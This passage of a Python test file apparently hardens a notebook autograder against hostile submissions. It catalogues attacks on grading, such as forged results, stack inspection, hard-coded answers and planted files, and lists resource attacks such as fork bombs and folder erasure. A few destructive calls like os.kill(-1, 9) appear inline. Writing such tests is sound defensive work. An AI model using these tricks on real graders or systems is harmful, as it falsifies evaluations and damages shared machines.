    + max_points(FILTERS)["ofe-05-graph-check"] / 12,
    2,
)

ATTACKS: dict[str, Attack] = {
    "asserts-removed": Attack(1, STRIP),
    "statements-removed": Attack(1, EMPTY),
    "hooks-publish-marks": Attack(2, HOOKS),
    "messages-forged": Attack(2, FORGED),
    "control-channel": Attack(2, "import os\n" + CONTROL),
    "outputs-claimed": Attack(3, change=claim_outputs, status="unchanged"),
    "comparisons-patched": Attack(4, PATCHES),
    # matplotlib needs what this patches, so there are no pictures.
    "comparisons-patched-solved-half": Attack(
        4,
        PATCHES,
        solved=True,
        cells={GRAPH: "pass"},
        points=points_with(*(cell for cell in _order if cell not in (GRAPH, *PICTURES))),
    ),
    "liars": Attack(5, LIARS),
    "stack-inspected": Attack(6, LOOKING, LOOKED),
    # No more points than a notebook gets with constants of the right shapes.
    "responder-says-zero": Attack(6, liar("0.0"), points=SHAPES_ALONE),
    "responder-says-one": Attack(6, liar("1.0"), points=SHAPES_ALONE),
    "threads-answer": Attack(6, LINE + MASTERS),
    "answers-guessed": Attack(15, LINE + GUESSES),
    **{
        f"reply-{name.replace(' ', '-')}": Attack(15, LINE + code)
        for name, code in MALFORMED.items()
    },
    "reads-and-tells": Attack(7, REACH + SPEAK + "speak(repr(found).encode())\nprint(found)"),
    "speaks": Attack(8, SPEAK + "import threading\nspeak(b'leak')"),
    "leaves-files": Attack(8, LEAVE),
    "writes": Attack(9, WRITE),
    "files-that-run": Attack(10, change=files_that_run, status="unchanged"),
    "files-that-run-beside-solutions": Attack(10, solved=True, change=files_that_run, points=FULL),
    "stays": Attack(11, STAY),
    "kills": Attack(12, KILL),
    "kills-itself": Attack(12, "import os\nos.kill(os.getpid(), 9)\nos.kill(-1, 9)"),
    "preloads": Attack(12, PRELOAD, reason="the kernel ended in cell number 1"),
    "own-memory": Attack(12, OWN_MEMORY),
    "escapes": Attack(12, ESCAPE),
    "swallows-interrupts": Attack(
        13,
        solved=True,
        cells={GRAPH: SWALLOW},
        points=AT_THE_GRAPH,
        reason=f"stopped after {SECONDS} s in cell OFE-05",
    ),
    "memory": Attack(13, solved=True, cells={GRAPH: MEMORY}, points=BUT_THE_GRAPH),
    "fork-bomb": Attack(
        13,
        solved=True,
        cells={GRAPH: BOMB},
        points=AT_THE_GRAPH,
        reason="started more than 15 processes in cell OFE-05",
    ),
    "disk": Attack(
        13,
        solved=True,
        cells={GRAPH: DISK},
        points=AT_THE_GRAPH,
        reason="wrote more than 0.0625 GB to disk in cell OFE-05",
    ),
    "files": Attack(
        13,
        solved=True,
        cells={GRAPH: FILES},
        points=AT_THE_GRAPH,
        reason="made more than 600 files in cell OFE-05",
    ),
    "prints": Attack(
        13,
        solved=True,
        cells={GRAPH: PRINT},
        points=AT_THE_GRAPH,
        reason="stopped after printing 64 MB in cell OFE-05",
    ),
    "stops-its-group": Attack(
        13,
        solved=True,
        cells={GRAPH: STOP},
        points=BUT_THE_GRAPH,
        reason=f"stopped after {SECONDS} s in cell OFE-05",
    ),
    "erases-its-folder": Attack(
        13,
        solved=True,
        cells={GRAPH: ERASE},
        points=AT_THE_GRAPH,
        reason="the kernel ended in cell OFE-05",
    ),
    "odd-points": Attack(14, change=odd_points, status="unchanged"),
    "odd-ids": Attack(14, change=odd_ids),
    "odd-ids-solved": Attack(14, change=odd_ids, solved=True, points=FULL),
    "cells-swapped": Attack(14, change=swap_cells, status="unchanged"),
    "many-cells": Attack(14, change=many_cells, solved=True, status="failed"),
    "hard-coded": Attack(18, cells=HARD_CODED, points=VISIBLE),
    "shows-html": Attack(19, SHOW, change=hostile_text),
    "shows-html-solved": Attack(19, last=SHOW, solved=True, points=FULL),
    "links-everywhere": Attack(21, change=links_everywhere, solved=True, points=FULL),
    "hard-links": Attack(21, change=hard_links, solved=True, points=FULL),
    "links-made": Attack(21, SOW),
    "sows": Attack(22, last=SOW, solved=True, points=FULL),
    "odd-names": Attack(23, change=odd_names, solved=True, points=FULL),
    "deep-folders": Attack(23, change=deep_folders, solved=True, points=FULL),
    "sparse-files": Attack(
        23, change=sparse_files, status="failed", reason="the submission holds more than 2 GB"
    ),
    "very-many-files": Attack(23, change=very_many_files, solved=True, points=FULL),
    "deep-nesting": Attack(
        23, change=deep_nesting, status="failed", reason=f"{FILTERS}.ipynb is not a"
    ),
    "huge-number": Attack(
        23, change=huge_number, status="failed", reason=f"{FILTERS}.ipynb is not a"
    ),
}


def names_in_code(names: Mapping[str, object]) -> str:
    """Assignments that give a cell these names."""
    return "".join(f"{name} = {value!r}\n" for name, value in names.items())


def hand_in(folder: Path, attack: Attack, names: Mapping[str, object]) -> None:
    """Turn the honest submission in `folder` into the attack."""
    path = folder / f"{FILTERS}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    fixed = {"ASSIGNMENT": ASSIGNMENT, "FILTERS": FILTERS, "MARK": MARK}

    def cell(code: str, name: str) -> NotebookNode:
        for word, text in fixed.items():
            code = code.replace(word, text)
        return new_code_cell(names_in_code(names) + code, id=name)

    if attack.code:
        notebook.cells.insert(0, cell(attack.code, "first"))
    if attack.last:
        notebook.cells.append(cell(attack.last, "last"))
    for other in notebook.cells:
        name = other.metadata.get("nbgrader", {}).get("grade_id")
        if name in attack.cells:
            other.source = attack.cells[name]
    nbformat.write(notebook, path)
    if attack.change is not None:
        attack.change(folder)


def said(folder: Path) -> str:
    """All text that grading wrote into a folder."""
    return json.dumps(
        [
            path.read_text("utf-8", "replace")
            for path in sorted(folder.rglob("*"))
            if path.is_file() and not path.is_symlink()
        ],
        ensure_ascii=False,
    )
